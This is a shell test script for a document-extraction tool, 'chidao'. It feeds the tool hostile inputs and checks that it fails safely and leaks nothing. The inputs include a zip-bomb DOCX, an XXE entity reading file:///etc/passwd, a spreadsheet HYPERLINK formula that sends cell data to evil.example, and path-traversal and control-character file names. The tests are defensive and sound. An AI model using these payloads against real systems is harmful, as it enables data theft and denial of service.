#!/bin/sh
# Hostile and broken inputs (tests/bad/EXPECTED): chidao extract on each ends
# within a time and memory bound set here, not by the product, with the
# expected exit code and a stderr line naming the file and the reason, and no
# crash or sanitizer report; then one batch over all of them plus samples/
# converts the samples exactly as extract does and exits 2 listing the rest.
#   usage: tests/bad.sh build/chidao
set -u
bin=$1
py=/usr/bin/python3
dir=$(cd "$(dirname "$0")" && pwd)/bad
tmp=$(mktemp -d)
trap 'chmod -R u+rwx "$tmp" 2>/dev/null; rm -rf "$tmp"' EXIT
pass=0 fail=0
ok() { pass=$((pass + 1)); }
bad() { echo "FAIL $*"; fail=$((fail + 1)); }

# Bounds: 20 s each; 2 GB of address space, except under ASan, whose shadow
# memory reserves terabytes of address space (ulimit -v would stop it at once).
limit_kb=2097152
if grep -q __asan_init "$bin" 2>/dev/null; then limit_kb=unlimited; fi

# ---- the inputs too big to commit, or not files at all
gen=$tmp/gen
mkdir "$gen"
head -c 104857600 /dev/zero | tr '\0' a > "$gen/long-line.txt"
{ printf 'Số: 1/KH-UBND\n'; head -c 2097152 /dev/zero | tr '\0' a; printf '\n'; } > "$gen/line-2mb.txt"
yes a | head -n 2000001 > "$gen/too-many-lines.txt"
yes '5 5' | head -n 1900000 > "$gen/slow.txt" # no letters, just under the lines cap: seconds of work
yes a | head -n 1000000 > "$gen/many-lines.txt"
yes '5 5' | head -n 1000000 > "$gen/digit-lines.txt"
$py - "$gen" <<'PY'
import os, sys, zipfile
d = sys.argv[1]
def put(name, text):
    with open(os.path.join(d, name), "w", encoding="utf-8") as f:
        f.write(text)
head = "Số: 1/KH-UBND\nKẾ HOẠCH\nThực hiện nhiệm vụ năm 2026\n"
put("nested-numbered.txt", head + "".join(
    ".".join(["1"] * k) + ". Sở Tài chính chủ trì thực hiện nhiệm vụ cấp %d.\n" % k for k in range(1, 3001)))
put("nested-markdown.md", head + "".join(
    " " * k + "- Sở Y tế chủ trì nhiệm vụ cấp %d\n" % k for k in range(10000)))
cols = range(10000)
put("wide-table-tabs.txt", head + "\t".join("Cột %d" % i for i in cols) + "\n"
    + "\t".join("Sở %d" % i for i in cols) + "\n")
row = lambda cell: "| " + " | ".join(cell(i) for i in cols) + " |\n"
put("wide-table-pipes.md", head + row(lambda i: "Nhiệm vụ %d" % i) + row(lambda i: "---") + row(lambda i: "Sở %d" % i))
put("long-deadline.txt", head + "1. Sở Tài chính chủ trì xây dựng đề án, hoàn thành trong Quý "
    + "I" * (100 * 1024) + "/2026.\n")
# a DOCX whose document part inflates to 200 MB (about 200 KB compressed)
ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
      'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')
with zipfile.ZipFile(os.path.join(d, "zip-bomb.docx"), "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("[Content_Types].xml", ct)
    z.writestr("_rels/.rels", rels)
    with z.open("word/document.xml", "w", force_zip64=True) as f:
        f.write(b'<?xml version="1.0" encoding="UTF-8"?><w:document '
                b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
        for _ in range(200):
            f.write(b" " * (1 << 20))
        f.write(b"</w:t></w:r></w:p></w:body></w:document>")
# the caps of src/limits.h, each just passed
put("many-cells.txt", head + "".join("\t".join("x%d" % c for c in range(255)) + "\n" for _ in range(4000)))
tasks, n = [head + "II. NHIỆM VỤ, GIẢI PHÁP\n"], 0
for k in range(1, 12):
    tasks.append("%d. Nhóm nhiệm vụ %d\n" % (k, k))
    for j in range(1, 100):
        tasks.append("%d.%d. Nhóm con %d\n" % (k, j, j))
        for i in range(1, 100):
            if n <= 100000:
                tasks.append("%d.%d.%d. Xây dựng đề án số %d.\n" % (k, j, i, n))
                n += 1
put("many-tasks.txt", "".join(tasks))
page = ("<html><body><p>Số: 1/KH-UBND</p><p>KẾ HOẠCH</p>"
        "<p>1. Sở Tài chính chủ trì, hoàn thành trước ngày 30/6/2026.</p>%s</body></html>\n")
put("wide-table.html", page % ("<table><tr>" + "<td>Cột %d</td>" * 300 % tuple(range(300)) + "</tr><tr>"
                                + "<td>Sở</td>" * 300 + "</tr></table>"))
put("deep.html", page % ("<div>" * 150 + "x" + "</div>" * 150))
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
para = lambda t: "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % t
body = (para("Số: 1/KH-UBND") + para("KẾ HOẠCH") + para("1. Sở Tài chính chủ trì, hoàn thành trước ngày 30/6/2026.")
        + "<w:sdt><w:sdtContent>" * 72 + para("Ghi chú") + "</w:sdtContent></w:sdt>" * 72)
document = '<?xml version="1.0" encoding="UTF-8"?><w:document %s><w:body>%s</w:body></w:document>' % (W, body)
with zipfile.ZipFile(os.path.join(d, "deep.docx"), "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", ct)
    z.writestr("word/document.xml", document)
with zipfile.ZipFile(os.path.join(d, "many-entries.docx"), "w", zipfile.ZIP_STORED) as z:
    z.writestr("[Content_Types].xml", ct)
    z.writestr("word/document.xml", document)
    for i in range(9999):
        z.writestr("word/media/x%d.xml" % i, "")
def pdf(name, pages, size=None):
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [%s] /Count %d >>" % (" ".join("%d 0 R" % (3 + i) for i in range(pages)), pages)]
    objs += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, o in enumerate(objs):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, o.encode())
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size or len(objs) + 1, xref)
    with open(os.path.join(d, name), "wb") as f:
        f.write(out)
pdf("many-pages.pdf", 1001)
pdf("huge-xref.pdf", 1, 2000000000)
PY
mkdir "$gen/a-directory"
mkfifo "$gen/fifo.txt"
printf 'Số: 1/KH-UBND\n' > "$gen/unreadable.txt"
chmod 000 "$gen/unreadable.txt"
ln -s /proc/self/mem "$gen/proc-mem.txt"
as_root=false
[ "$(id -u)" = 0 ] && as_root=true

input_of() { # name: the committed file, else the generated one
    if [ -e "$dir/$1" ]; then echo "$dir/$1"; else echo "$gen/$1"; fi
}
sanitizer_clean() { # name stderr-file
    if grep -q 'AddressSanitizer\|LeakSanitizer\|runtime error:' "$2"; then
        bad "$1: sanitizer report"; sed -n 1,20p "$2"
    else
        ok
    fi
}

# ---- 1. chidao extract on each input
failing=""
while IFS='	' read -r name want reason opts; do
    case $name in '#'* | '') continue ;; esac
    if [ "$name" = unreadable.txt ] && $as_root; then
        echo "note: unreadable.txt skipped: running as root, chmod 000 does not stop reads (proc-mem.txt covers a refused read)"
        continue
    fi
    f=$(input_of "$name")
    [ "$want" = 0 ] || [ -n "$opts" ] || failing="$failing $name"
    # shellcheck disable=SC2086 # opts: words
    (ulimit -v $limit_kb; exec timeout 20 "$bin" extract $opts "$f") > "$tmp/out" 2> "$tmp/err"
    got=$?
    [ -n "$opts" ] && name="$name ($opts)"
    case $got in
    124) bad "$name: still running after 20 s" ;;
    12[5-9] | 1[3-9]? | 2??) bad "$name: killed or crashed (exit $got)"; sed -n 1,5p "$tmp/err" ;;
    "$want") ok ;;
    *) bad "$name: exit $got, expected $want"; sed -n 1,3p "$tmp/err" ;;
    esac
    sanitizer_clean "$name" "$tmp/err"
    if [ "$want" != 0 ]; then
        grep -qF "chidao: $f" "$tmp/err" && ok || { bad "$name: stderr does not name the file"; sed -n 1,3p "$tmp/err"; }
    fi
    if [ "$reason" != - ]; then
        grep -qF -- "$reason" "$tmp/err" && ok || { bad "$name: stderr lacks '$reason'"; sed -n 1,3p "$tmp/err"; }
    fi
    if [ "$want" = 0 ]; then
        $py -c 'import json,sys; json.load(open(sys.argv[1], encoding="utf-8"))' "$tmp/out" 2> /dev/null &&
            ok || bad "$name: output is not JSON"
    fi
    # XXE: the external entity is never fetched; billion laughs: never expanded
    case $name in
    xxe.*) grep -q 'root:' "$tmp/out" && bad "$name: /etc/passwd leaked into the output" || ok ;;
    billion-laughs.*) grep -q 'lollol' "$tmp/out" && bad "$name: an entity was expanded" || ok ;;
    esac
done < "$dir/EXPECTED"

# ---- 2. one batch over every bad input plus the samples
set --
for name in $(awk -F'\t' '!/^#/ && NF && $4 == "" {print $1}' "$dir/EXPECTED" | sort -u); do
    [ "$name" = unreadable.txt ] && $as_root && continue
    set -- "$@" "$(input_of "$name")"
done
(ulimit -v $limit_kb; exec timeout 300 "$bin" batch -o "$tmp/batch" "$@" samples/) 2> "$tmp/err"
got=$?
[ "$got" = 2 ] && ok || { bad "batch: exit $got, expected 2"; tail -n 5 "$tmp/err"; }
sanitizer_clean batch "$tmp/err"
for name in $failing; do
    [ "$name" = unreadable.txt ] && $as_root && continue
    [ "$name" = a-directory ] && continue # batch walks a directory: an empty one is no failure
    grep -q "^chidao: .*$name: " "$tmp/err" && ok || bad "batch: no report for $name"
done
for f in samples/*.txt; do
    stem=$(basename "$f" .txt)
    "$bin" extract "$f" > "$tmp/one.json"
    cmp -s "$tmp/one.json" "$tmp/batch/$stem.json" && ok || bad "batch: $stem.json missing or differs from extract"
done
grep -r -q 'root:' "$tmp/batch" && bad "batch: /etc/passwd leaked into the outputs" || ok

now_ms() { echo $(($(date +%s%N) / 1000000)); }

# ---- 3. the batch's time budget (--limit time=MS): a slow document fails
# with "limit exceeded: time", the others convert.  The budget is set from
# this machine's speed (sanitizers, load): half the time extract takes on the
# slow document, which is still more than a sample needs (extract's time
# includes loading the rules, which a batch does once).
t0=$(now_ms); "$bin" extract "$gen/slow.txt" > /dev/null; slow=$(($(now_ms) - t0))
t0=$(now_ms); "$bin" extract samples/002_68621dcf91b9871c.txt > /dev/null; quick=$(($(now_ms) - t0))
budget=$((slow / 2))
if [ "$budget" -le $((quick + 100)) ]; then
    echo "note: time budget not tested: the slow document ($slow ms) is not slow enough next to a sample ($quick ms)"
else
    (ulimit -v $limit_kb; exec timeout 300 "$bin" batch -o "$tmp/timed" -j2 --limit time=$budget \
        "$gen/slow.txt" samples/) 2> "$tmp/err"
    got=$?
    [ "$got" = 2 ] && ok || { bad "time budget: batch exit $got, expected 2"; tail -n 5 "$tmp/err"; }
    grep -q "^chidao: .*slow.txt: limit exceeded: time: " "$tmp/err" && ok ||
        { bad "time budget: no 'limit exceeded: time' for the slow document"; tail -n 5 "$tmp/err"; }
    for f in samples/*.txt; do
        [ -s "$tmp/timed/$(basename "$f" .txt).json" ] && ok || bad "time budget: $f not converted"
    done
    sanitizer_clean time-budget "$tmp/err"
fi

# ---- 4. output names made from hostile input names stay inside OUTDIR: no
# "../", no absolute path, no control character, no leading dot or dash,
# at most 255 bytes
names=$tmp/names
mkdir "$names"
long=$($py -c 'print("Kế hoạch thực hiện " * 8, end="")')
for n in "$(printf 'line\nbreak.txt')" "$(printf 'bell\007\033[31mred.txt')" "-rf.txt" "--help.txt" "..txt" \
    "...txt" ".hidden.txt" 'back\slash:colon*.txt' "$long.txt" "tasks.txt" "$(printf 'bad\377utf8.txt')"; do
    cp samples/004_ff2c98ccd76aaf96.txt "$names/$n"
done
set -- "$names"/* "$names"/.hidden.txt "$names/...txt" "$names/../names/-rf.txt" "$(cd "$names" && pwd)/..txt"
"$bin" batch -o "$tmp/named" -f json,csv "$@" 2> "$tmp/err"
got=$?
[ "$got" = 0 ] && ok || { bad "hostile names: batch exit $got"; tail -n 5 "$tmp/err"; }
$py - "$tmp/named" "$#" "$tmp" << 'PY' && ok || bad "hostile names: unsafe output names (above)"
import os, sys
out, n_inputs, root = sys.argv[1], int(sys.argv[2]), sys.argv[3]
names = os.listdir(out)
bad = [x for x in names if x.startswith(("-", ".")) or len(x.encode("utf-8", "surrogateescape")) > 255
       or any(ord(c) < 32 or ord(c) == 127 for c in x) or "/" in x or "\\" in x]
bad += [x for x in names if not os.path.isfile(os.path.join(out, x))]
json_files = [x for x in names if x.endswith(".json")]
if len(json_files) != n_inputs:
    bad.append("%d JSON files for %d inputs: %s" % (len(json_files), n_inputs, sorted(json_files)))
# nothing written beside OUTDIR (a "../" would land in the test's directory)
stray = sorted(set(os.listdir(root)) - {"named", "names", "gen", "out", "err", "batch", "one.json", "timed"})
bad += ["written outside OUTDIR: " + x for x in stray]
for x in bad:
    print("FAIL", repr(x))
sys.exit(1 if bad else 0)
PY

# ---- 5. CSV cells a spreadsheet would run as formulas (= + - @) get a
# leading apostrophe; --csv-formulas keep writes them as they are
formulas=$tmp/formulas
mkdir "$formulas"
printf '%s\n' 'Số: 1/KH-UBND' 'KẾ HOẠCH' 'Thực hiện nhiệm vụ năm 2026' 'II. NHIỆM VỤ, GIẢI PHÁP' \
    '1. =HYPERLINK("http://evil.example/?"&A1,"Xem") xây dựng đề án.' '- Chủ trì: @Sở Tài chính.' \
    '- Thời hạn: Quý II/2026.' '2. +Tổ chức hội nghị.' '- Chủ trì: Sở Y tế.' '3. -Rà soát thủ tục.' \
    '- Chủ trì: Sở Nội vụ.' > "$formulas/=cmd.txt"
"$bin" batch -o "$tmp/csv-safe" -f csv "$formulas" 2> "$tmp/err" && ok || { bad "csv: batch failed"; cat "$tmp/err"; }
"$bin" batch -o "$tmp/csv-keep" -f csv --csv-formulas keep "$formulas" 2> "$tmp/err" && ok ||
    { bad "csv: batch --csv-formulas keep failed"; cat "$tmp/err"; }
"$bin" extract -f csv "$formulas/=cmd.txt" > "$tmp/extract.csv" 2> "$tmp/err" && ok || bad "csv: extract -f csv failed"
$py - "$tmp/csv-safe" "$tmp/csv-keep" "$tmp/extract.csv" << 'PY' && ok || bad "csv: formula cells (above)"
import csv, glob, os, sys
safe, keep, extract = sys.argv[1:4]
def cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]
fails = []
safe_cells = [c for p in sorted(glob.glob(os.path.join(safe, "*.csv"))) + [extract] for c in cells(p)]
fails += ["formula cell: %r" % c for c in safe_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
for want in ("'=HYPERLINK(", "'+Tổ chức", "'-Rà soát", "'@Sở Tài chính"):
    if not any(c.startswith(want) for c in safe_cells):
        fails.append("no neutralised cell starting %r" % want)
keep_cells = [c for p in sorted(glob.glob(os.path.join(keep, "*.csv"))) for c in cells(p)]
for want in ("=HYPERLINK(", "+Tổ chức", "-Rà soát", "@Sở Tài chính"):
    if not any(c.startswith(want) for c in keep_cells):
        fails.append("--csv-formulas keep: no cell starting %r" % want)
if any(c.startswith("'") for c in keep_cells):
    fails.append("--csv-formulas keep added an apostrophe")
for x in fails:
    print("FAIL", x)
sys.exit(1 if fails else 0)
PY
"$bin" extract --csv-formulas maybe -f csv "$formulas/=cmd.txt" > /dev/null 2>&1
[ $? = 2 ] && ok || bad "csv: --csv-formulas maybe is not a usage error"

# ---- 6. XLSX strings cleaned of control characters (a file name carries
# them into every sheet)
ctl=$tmp/ctl
mkdir "$ctl"
cp samples/004_ff2c98ccd76aaf96.txt "$ctl/$(printf 'ctl\001\002\033\177.txt')"
"$bin" batch -o "$tmp/xlsx" -f xlsx "$ctl" 2> "$tmp/err" && ok || { bad "xlsx: batch failed"; cat "$tmp/err"; }
$py - "$tmp/xlsx/tasks.xlsx" << 'PY' && ok || bad "xlsx: control characters in the workbook (above)"
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
fails = []
for name in z.namelist():
    if not name.endswith(".xml"):
        continue
    text = z.read(name).decode("utf-8")
    if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|_x00[01][0-9A-Fa-f]_", text):
        fails.append(name)
if not any("ctl" in z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/")):
    fails.append("the document's name is missing")
for x in fails:
    print("FAIL control character in", x)
sys.exit(1 if fails else 0)
PY

# ---- 7. an XXE in a template file: refused, never fetched (check reads it
# with no network, no DTD, no entity expansion, and takes no DOCTYPE)
"$bin" template derive --cite "02-CTr/BCĐTW" -o "$tmp/derived.xml" samples/*.txt 2> /dev/null
$py - "$tmp/derived.xml" "$tmp/xxe-template.xml" << 'PY'
import sys
t = open(sys.argv[1], encoding="utf-8").read()
t = t.replace("<template ", '<!DOCTYPE template [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<template ', 1)
t = t.replace("<text>", "<text>&xxe;", 1)
open(sys.argv[2], "w", encoding="utf-8").write(t)
PY
grep -q '&xxe;' "$tmp/xxe-template.xml" && ok || bad "template xxe: not made"
"$bin" check --template "$tmp/xxe-template.xml" -f json samples/001_41fd8fcf13e1293d.txt > "$tmp/out" 2> "$tmp/err"
got=$?
[ "$got" = 4 ] && ok || { bad "template xxe: exit $got, expected 4"; sed -n 1,3p "$tmp/err"; }
grep -q 'not a valid template: it has a DOCTYPE' "$tmp/err" && ok || bad "template xxe: not refused for its DOCTYPE"
grep -q 'root:' "$tmp/out" "$tmp/err" && bad "template xxe: /etc/passwd leaked" || ok
sanitizer_clean template-xxe "$tmp/err"

# ---- 8. rule files that are not UTF-8 text (found by fuzz_rules: an example
# with invalid UTF-8 reached PCRE2's JIT, which does not check, and crashed):
# refused at load with the file, the line and the byte
for f in "$dir"/*.rules; do
    name=$(basename "$f")
    mkdir -p "$tmp/rules-$name"
    cp "$f" "$tmp/rules-$name/"
    (ulimit -v $limit_kb; exec timeout 20 "$bin" rules test "$tmp/rules-$name") > "$tmp/out" 2> "$tmp/err"
    got=$?
    [ "$got" = 4 ] && ok || { bad "$name: exit $got, expected 4"; sed -n 1,3p "$tmp/err"; }
    grep -q "^chidao: .*$name:[0-9]*: \(invalid UTF-8 byte\|NUL byte\)" "$tmp/err" && ok ||
        { bad "$name: no error naming the file, line and byte"; sed -n 1,3p "$tmp/err"; }
    sanitizer_clean "$name" "$tmp/err"
done

echo "bad: $pass passed, $fail failed"
[ $fail -eq 0 ]
